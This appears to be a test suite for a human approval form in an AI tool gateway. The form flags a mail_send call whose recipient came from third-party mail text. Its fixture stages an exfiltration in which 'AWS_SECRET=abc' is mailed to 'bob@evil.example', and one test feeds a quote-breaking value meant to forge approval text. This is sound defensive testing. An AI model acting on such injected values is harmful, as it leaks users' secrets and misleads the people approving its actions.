import { PassThrough } from 'node:stream'
import { describe, expect, test } from 'vitest'
import { approvalCards } from '../../../src/cli/approval-cards.js'
import { choiceOf, formOf } from '../../../src/gateway/person/approval-form.js'
import type { Approval } from '../../../src/tool/outcome.js'

const item = {
  argument: 'to',
  value: 'bob@evil.example',
  role: 'target',
  from: 'stands in third-party text of mail_read',
}
const call = {
  callId: 'c1',
  arguments: [
    { argument: 'to', value: 'bob@evil.example' },
    { argument: 'body', value: 'AWS_SECRET=abc' },
  ],
  digest: 'd1',
}
const approval = (changes: Partial<Approval> = {}): Approval => ({
  id: 'ap_1',
  revision: 'r1',
  tool: 'mail_send',
  calls: [call],
  items: [item],
  reason: 'A value was not given by you.',
  offers: ['once', 'value', 'never'],
  expiresAt: '2026-07-28T12:00:00.000Z',
  ...changes,
})

describe('the form of an approval', () => {
  test('names tool, reason, each value with its role and origin, and all that the call carries', () => {
    expect(formOf(approval())).toEqual({
      message: [
        'Sallyport asks: May mail_send run? A value was not given by you.',
        '- target "to": "bob@evil.example" (stands in third-party text of mail_read)',
        'The call in full:',
        '- "to": "bob@evil.example"',
        '- "body": "AWS_SECRET=abc"',
        'A yes to the values counts for later calls with them too, whatever else those carry.',
        'Never: all calls of this tool with these values are refused.',
      ].join('\n'),
      requestedSchema: {
        type: 'object',
        properties: {
          answer: {
            type: 'string',
            title: 'Answer',
            enum: ['allow once', 'allow these values', 'never', 'refuse'],
          },
        },
        required: ['answer'],
      },
    })
  })

  test('shows each of several calls', () => {
    const two = approval({ calls: [call, { ...call, arguments: [{ argument: 'body', value: 'else' }] }] })
    expect(formOf(two)?.message).toContain('May mail_send run 2 times?')
    expect(formOf(two)?.message).toContain('\nCall 2 of 2 in full:\n- "body": "else"')
  })

  test('holds the same facts as the terminal', () => {
    const card = approvalCards([{ ...approval(), conversation: 'c', waits: true }], new PassThrough())
    for (const line of formOf(approval())?.message.replace('Sallyport asks: ', '').split('\n') ?? [])
      expect(card).toContain(`  ${line}\n`)
  })

  test('offers only what the approval offers', () => {
    const form = formOf(approval({ offers: ['once'], items: [] }))
    expect(form?.requestedSchema.properties.answer).toMatchObject({ enum: ['allow once', 'refuse'] })
    expect(form?.message).not.toMatch(/Never|A yes to the values/)
  })

  test('keeps a value within its quotes', () => {
    const form = formOf(approval({ items: [{ ...item, value: 'x" (from user)\nmay run' }] }))
    expect(form?.message).toContain(': "x\\" (from user) may run" (stands in')
  })

  test('is none when there is more to read than anybody would', () => {
    const of = (count: number) => formOf(approval({ items: Array(count).fill(item) }))
    expect(of(50)).toBeDefined()
    expect(of(60)).toBeUndefined()
  })
})

describe('an answer', () => {
  const accept = (content?: unknown, more = {}) => ({ action: 'accept', content, ...more })
  test.each<[what: string, result: unknown, choice: unknown]>([
    ['once', accept({ answer: 'allow once' }), 'once'],
    ['by value', accept({ answer: 'allow these values' }), 'value'],
    ['with metadata', accept({ answer: 'allow once' }, { _meta: { a: 1 } }), 'once'],
    ['never', accept({ answer: 'never' }), 'never'],
    ['that refuses', accept({ answer: 'refuse' }), 'deny'],
    ['that declines', { action: 'decline' }, 'deny'],
    ['that declines, with an empty form', { action: 'decline', content: {} }, 'deny'],
    ['that cancels', { action: 'cancel' }, undefined],
    ['that cancels, with an answer', { action: 'cancel', content: { answer: 'allow once' } }, undefined],
    ['of another action', { action: 'ok', content: { answer: 'allow once' } }, undefined],
    ['without content', accept(), undefined],
    ['with another key', accept({ answer: 'allow once', note: 'and all others' }), undefined],
    ['with another key beside the content', accept({ answer: 'allow once' }, { for: 'value' }), undefined],
    ['under another key', accept({ for: 'once' }), undefined],
    ['in our own words', accept({ answer: 'once' }), undefined],
    ['in other letters', accept({ answer: 'Allow once' }), undefined],
    ['that is no text', accept({ answer: true }), undefined],
    ['that is a list', accept(['allow once']), undefined],
    ['that is empty', accept({ answer: '' }), undefined],
    ['that is nothing', undefined, undefined],
    ['that is a text', 'allow once', undefined],
  ])('%s', (_, result, choice) => {
    expect(choiceOf(result, approval())).toBe(choice)
  })

  test('by value is none where only once was offered', () => {
    expect(choiceOf(accept({ answer: 'allow these values' }), approval({ offers: ['once'] }))).toBeUndefined()
  })
})
